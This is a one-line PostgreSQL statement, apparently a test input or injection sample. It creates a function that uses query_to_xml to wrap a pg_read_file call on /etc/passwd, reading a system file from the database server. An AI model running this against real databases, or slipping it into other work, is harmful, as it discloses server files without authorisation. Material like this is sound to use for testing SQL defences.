CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $body$ SELECT query_to_xml('SELECT pg_read_file(''/etc/passwd'')', true, true, '') $body$
